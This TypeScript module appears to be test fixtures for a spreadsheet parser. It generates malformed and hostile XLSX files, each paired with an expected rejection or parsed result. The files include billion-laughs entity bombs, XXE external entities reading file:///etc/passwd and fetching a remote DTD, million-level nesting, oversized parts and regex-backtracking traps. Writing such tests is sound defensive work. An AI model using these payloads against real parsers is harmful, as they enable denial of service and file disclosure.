/** XML that declares entities, never ends, nests or repeats without bound: in every part that is read. */
import { relationships, buildWorkbook, worksheetXml, type Pieces } from '../workbookBuilder';
import { FULL_PART, MEGABYTE, numbered, repeated, values, type HostileFile } from './hostileFile';

const rows = '<row r="1"><c r="A1" s="1" t="s"><v>0</v></c></row>';
const strings = '<si><t>Ủy ban</t></si>';
/** The styles are asked for where days are counted from 1904 alone. */
const workbook = '<workbookPr date1904="1"/><sheets><sheet name="Một" sheetId="1" r:id="rId1"/></sheets>';
const PROPERTIES = 'docProps/custom.xml';
const root = relationships(
  ['rId1', 'officeDocument', 'xl/workbook.xml'],
  ['rId2', 'custom-properties', PROPERTIES],
  ['rId3', 'extended-properties', 'docProps/app.xml'],
);
const others = {
  '_rels/.rels': root,
  [PROPERTIES]: '<Properties/>',
  'docProps/app.xml': '<Properties/>',
  'xl/styles.xml': '<styleSheet/>',
};

const pieces: Pieces = { rows, strings, workbook, parts: others };
const withPart = (name: string, content: string | Uint8Array): Uint8Array =>
  buildWorkbook({ ...pieces, parts: { ...others, [name]: content } });

const everyPart: readonly (readonly [part: string, root: string])[] = [
  ['_rels/.rels', 'Relationships'],
  ['xl/workbook.xml', 'workbook'],
  ['xl/_rels/workbook.xml.rels', 'Relationships'],
  ['xl/sharedStrings.xml', 'sst'],
  ['xl/styles.xml', 'styleSheet'],
  ['xl/worksheets/sheet1.xml', 'worksheet'],
  [PROPERTIES, 'Properties'],
  ['docProps/app.xml', 'Properties'],
];

const LAUGHS = Array.from({ length: 9 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join('');
const laughs = (name: string): string =>
  `<!DOCTYPE x [<!ENTITY l0 "ha">${LAUGHS}]><${name}><a b="&l9;">&l9;</a></${name}>`;
const external = (name: string): string =>
  `<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "http://example.invalid/x.dtd">%p;]><${name}>&f;</${name}>`;

const inEvery = (
  what: string,
  answer: HostileFile['answer'],
  content: (root: string) => string,
): readonly HostileFile[] =>
  everyPart.map(([part, name]) => ({
    name: `${what} in ${part}`,
    make: () => withPart(part, content(name)),
    answer,
  }));

const sheetOf = (inner: string): Uint8Array => buildWorkbook({ rows: inner });
const textOf = (inner: string): Uint8Array => sheetOf(`<row><c t="str"><v>${inner}</v></c></row>`);

const TRAPS = [`${'a'.repeat(50_000)}!`, `${' '.repeat(50_000)}x`, '_x'.repeat(50_000), '((a+)+)+$'.repeat(5_000)];

export const markup: readonly HostileFile[] = [
  ...inEvery('billion laughs', 'dtd', laughs),
  ...inEvery('entities of other files', 'dtd', external),
  ...inEvery('deep nesting', 'too-deep', (name) => `<${name}>${'<a>'.repeat(1_000_000)}`),
  ...inEvery('unclosed tags', 'bad-xml', (name) => `<${name}><a><b x="1">`),
  {
    name: 'a full part of comments',
    isHeavy: true,
    make: () => sheetOf(repeated('<!---->', FULL_PART)),
    answer: values(),
  },
  { name: 'a comment that never ends', make: () => sheetOf(`<!--${'->'.repeat(1_000_000)}`), answer: 'bad-xml' },
  {
    name: 'processing instructions that never end',
    isHeavy: true,
    make: () => textOf(repeated('<?', FULL_PART)),
    answer: 'bad-xml',
  },
  {
    name: 'a full part of empty rows, four times over',
    isHeavy: true,
    make: fourTimes,
    answer: { found: ({ sheets }) => sheets.length, expected: 4 },
  },
  {
    name: 'a text in pieces of two letters',
    make: () => textOf('<!---->ab'.repeat(200_000)),
    answer: values('ab'.repeat(200_000)),
  },
  {
    name: 'a text in a full part of such pieces',
    isHeavy: true,
    make: () => textOf(repeated('<!---->ab', FULL_PART)),
    answer: values('ab'.repeat(7_340_032)),
  },
  {
    name: 'a text in CDATA sections of two letters',
    make: () => textOf('<![CDATA[ab]]>'.repeat(200_000)),
    answer: values('ab'.repeat(200_000)),
  },
  {
    name: 'a text in runs of two letters',
    isHeavy: true,
    make: () => sheetOf(`<row><c t="inlineStr"><is>${repeated('<r><t>ab</t></r>', FULL_PART)}</is></c></row>`),
    answer: values('ab'.repeat(4_128_768)),
  },
  {
    name: 'a text of references',
    make: () => textOf('&amp;&#7889;'.repeat(200_000)),
    answer: values('&ố'.repeat(200_000)),
  },
  { name: 'a text of escapes', make: () => textOf('_x0041_'.repeat(200_000)), answer: values('A'.repeat(200_000)) },
  {
    name: 'a text of 10 MB',
    make: () => textOf('ố'.repeat((10 * MEGABYTE) / 3)),
    answer: values('ố'.repeat((10 * MEGABYTE) / 3)),
  },
  { name: 'a text of 63 MB', isHeavy: true, make: () => textOf('a'.repeat(FULL_PART)), answer: 'part-too-large' },
  {
    name: 'a text of 63 MB of escapes',
    isHeavy: true,
    make: () => textOf(repeated('_x0041_', FULL_PART)),
    answer: 'part-too-large',
  },
  {
    name: 'a text of 63 MB in CDATA sections',
    isHeavy: true,
    make: () => textOf(`<![CDATA[${'a'.repeat(FULL_PART / 3)}]]>`.repeat(3)),
    answer: 'part-too-large',
  },
  { name: 'a text of 62 MB in UTF-16', isHeavy: true, make: inUtf16, answer: 'part-too-large' },
  {
    name: 'a number of 63 million digits',
    isHeavy: true,
    make: () => sheetOf(`<row><c r="A1"><v>${'1'.repeat(FULL_PART)}</v></c></row>`),
    answer: 'part-too-large',
  },
  {
    name: 'a number of a million digits',
    make: () => sheetOf(`<row><c r="A1"><v>${'1'.repeat(MEGABYTE)}</v></c></row>`),
    answer: values('1'.repeat(MEGABYTE)),
  },
  {
    name: 'a name of 31 million letters',
    isHeavy: true,
    make: () => sheetOf(`<${'a'.repeat(FULL_PART / 2 - 200)}></${'a'.repeat(FULL_PART / 2 - 200)}>`),
    answer: values(),
  },
  {
    name: 'an attribute of 63 million letters',
    isHeavy: true,
    make: () => sheetOf(`<row><c t="${'a'.repeat(FULL_PART)}"><v>1</v></c></row>`),
    answer: 'part-too-large',
  },
  {
    name: 'an attribute nobody asks for, of a million letters',
    make: () => sheetOf(`<row><c r="A1" x="${'A'.repeat(MEGABYTE)}"><v>1</v></c></row>`),
    answer: values(1),
  },
  {
    name: 'an element of 999 attributes',
    make: () => sheetOf(`<row><c${' a=""'.repeat(998)} t="b"><v>1</v></c></row>`),
    answer: values(true),
  },
  {
    name: 'an element of a million attributes',
    make: () => sheetOf(`<row><c${' a=""'.repeat(1_000_000)}/></row>`),
    answer: 'bad-xml',
  },
  {
    name: 'a full part of elements of 900 attributes',
    isHeavy: true,
    make: () => sheetOf(`<row>${repeated(`<c${' a=""'.repeat(900)}/>`, FULL_PART)}</row>`),
    answer: values(),
  },
  { name: 'traps for regular expressions', make: traps, answer: values(...TRAPS) },
  {
    name: 'relationships by the million',
    isHeavy: true,
    make: () => withPart('xl/_rels/workbook.xml.rels', `<Relationships>${repeated('<r/>', FULL_PART)}</Relationships>`),
    answer: 'too-many-parts',
  },
  {
    name: 'custom properties by the million',
    isHeavy: true,
    make: () =>
      withPart(PROPERTIES, `<Properties>${numbered((n) => `<p name="${n}"><a/></p>`, 20 * MEGABYTE)}</Properties>`),
    answer: 'too-many-parts',
  },
  {
    name: 'cell styles by the million',
    isHeavy: true,
    make: () =>
      withPart('xl/styles.xml', `<styleSheet><cellXfs>${repeated('<xf/>', FULL_PART)}</cellXfs></styleSheet>`),
    answer: 'too-many-cells',
  },
  {
    name: 'number formats by the million',
    isHeavy: true,
    make: () =>
      withPart(
        'xl/styles.xml',
        `<styleSheet><numFmts>${numbered((n) => `<x numFmtId="${n}"/>`, 20 * MEGABYTE)}</numFmts></styleSheet>`,
      ),
    answer: 'too-many-cells',
  },
];

function traps(): Uint8Array {
  return sheetOf(`<row>${TRAPS.map((trap) => `<c t="str"><v>${trap}</v></c>`).join('')}</row>`);
}

function inUtf16(): Uint8Array {
  const text = `\uFEFF${worksheetXml(`<sheetData><row><c t="str"><v>${'字'.repeat(31 * MEGABYTE)}</v></c></row></sheetData>`)}`;
  return buildWorkbook({ parts: { 'xl/worksheets/sheet1.xml': Buffer.from(text, 'utf16le') } });
}

function fourTimes(): Uint8Array {
  const sheets = [1, 2, 3, 4].map((n) => `<sheet name="${n}" sheetId="${n}" r:id="rId1"/>`).join('');
  return buildWorkbook({ rows: repeated('<row/>', FULL_PART), workbook: `<sheets>${sheets}</sheets>` });
}
